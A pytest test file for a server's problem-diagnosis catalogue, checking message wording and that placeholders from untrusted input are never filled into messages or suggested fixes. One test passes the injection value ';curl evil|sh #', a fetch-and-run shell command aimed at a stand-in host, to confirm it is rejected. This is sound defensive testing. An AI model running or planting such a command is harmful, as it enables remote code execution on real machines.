"""The words of problems: they are all there, and nothing that a stranger sent can become part of one."""

from __future__ import annotations

import re
from typing import Any

import msgspec
import pytest

from server.core.diagnosis.catalogue import Catalogue, Problem
from server.core.diagnosis.detection import Finding
from server.core.diagnosis.rules import RULES, Rule
from server.core.diagnosis.words import SAYABLE, Plural, decode_words, filled, gaps, strangers
from server.site.pages import static_folder

from ...support.views import AT, CATALOGUE, view

WORDS = CATALOGUE.words


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.code)
def test_words(rule: Rule) -> None:
    words = WORDS.problems[rule.code]
    summary = words.summary
    for text in (summary,) if isinstance(summary, str) else (summary.one, summary.other):
        assert text[0].isupper() or text[0].isdigit() or text.startswith("{count}")
        assert text.endswith(".")
    assert words.hint[0].isupper()
    assert words.hint.endswith((".", ":"))
    assert not words.seen.endswith(".")
    assert not WORDS.cures[rule.cure.says].endswith(".")
    for check in words.checks.values():
        assert check.endswith((".", "?"))


def test_there_are_no_words_for_nothing() -> None:
    assert set(WORDS.problems) == {rule.code for rule in RULES}
    assert set(WORDS.cures) == {rule.cure.says for rule in RULES}


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.code)
def test_a_sentence_is_filled_from_values_of_ours_alone(rule: Rule) -> None:
    """`path`, `origin`, `key`, `detail`, `title` and the like come from whoever knows an address or a public key."""
    assert strangers([*WORDS.problems[rule.code].texts(), rule.fix or ""]) == []


@pytest.mark.parametrize("family", CATALOGUE.platforms.families)
def test_code_of_a_family_is_copied_as_it_is(family: str) -> None:
    """It has braces of its own; only the page fills in what it alone knows, such as the DSN."""
    for name in CATALOGUE.platforms.families[family].fixes:
        code, _, variant = name.partition(".")
        found = Finding(AT, AT, evidence=dict.fromkeys(SAYABLE, "evil"), variant=variant)
        told = CATALOGUE.told(Problem(CATALOGUE.rules[code], found, False), view({}, platform=family))
        assert told.fix
        assert "evil" not in told.fix
        assert set(re.findall(r"\{\{(\w+)\}\}", told.fix)) <= {"dsn", "key", "ingest", "server"}


@pytest.mark.parametrize("name", ["path", "origin", "key", "detail", "title", "level", "line", "field", "url", "dsn"])
def test_what_a_stranger_sends_is_not_sayable(name: str) -> None:
    assert name not in SAYABLE
    assert filled(f"A page of {{{name}}}.", {name: ";curl evil|sh #"}) == f"A page of {{{name}}}."


def damaged(**change: Any) -> bytes:
    row = {"summary": "It broke.", "hint": "Mend it.", "seen": "a crack"}
    return msgspec.json.encode({"page": {}, "problems": {"crack": row | change}, "cures": {"glue": "glue"}})


@pytest.mark.parametrize(
    ("change", "named"),
    [
        ({"summary": "It broke at {path}."}, "path"),
        ({"summary": {"one": "One broke.", "other": "{count} broke at {origin}."}}, "origin"),
        ({"hint": "Glue {key}."}, "key"),
        ({"checks": {"edge": "Look at {title}."}}, "title"),
        ({"summmary": "It broke."}, "summmary"),
        ({"hint": None}, "hint"),
        ({"summary": {"one": "One."}}, "other"),
    ],
)
def test_words_that_could_be_a_strangers_do_not_load(change: dict[str, Any], named: str) -> None:
    assert decode_words(damaged()).problems["crack"].hint == "Mend it."
    with pytest.raises(ValueError, match=named):
        decode_words(damaged(**change))


def test_a_rule_without_words_does_not_load() -> None:
    rule = Rule(code="crack", kind=RULES[0].kind, find=RULES[0].find, cure=RULES[0].cure)
    with pytest.raises(ValueError, match="crack"):
        Catalogue(WORDS, CATALOGUE.platforms, [rule])


def test_a_fix_with_a_gap_of_a_stranger_does_not_load() -> None:
    first = RULES[0]
    rule = Rule(code=first.code, kind=first.kind, find=first.find, cure=first.cure, fix="ALLOW={origin}")
    with pytest.raises(ValueError, match="origin"):
        Catalogue(WORDS, CATALOGUE.platforms, [rule])


@pytest.mark.parametrize(("count", "said"), [(1, "1 request came."), (2, "2 requests came."), (0, "0 requests came.")])
def test_a_sentence_about_one_and_about_many(count: int, said: str) -> None:
    assert filled(Plural("1 request came.", "{count} requests came."), {}, count) == said


def test_a_gap_is_filled_once() -> None:
    """What fills it may look like one, and code has braces of its own."""
    assert filled("{what} {{dsn}} { reason } {", {"what": "{reason}", "reason": "x"}) == "{reason} {{dsn}} { reason } {"
    assert gaps("{{dsn}} {what}") == ["what"]


def test_the_page_fills_the_same_gaps() -> None:
    script = (static_folder() / "core" / "problems.js").read_text()
    (ours,) = re.findall(r"^const OURS = \[([^\]]*)\];$", script, re.MULTILINE)
    assert {*re.findall(r'"([^"]+)"', ours), "count"} == SAYABLE
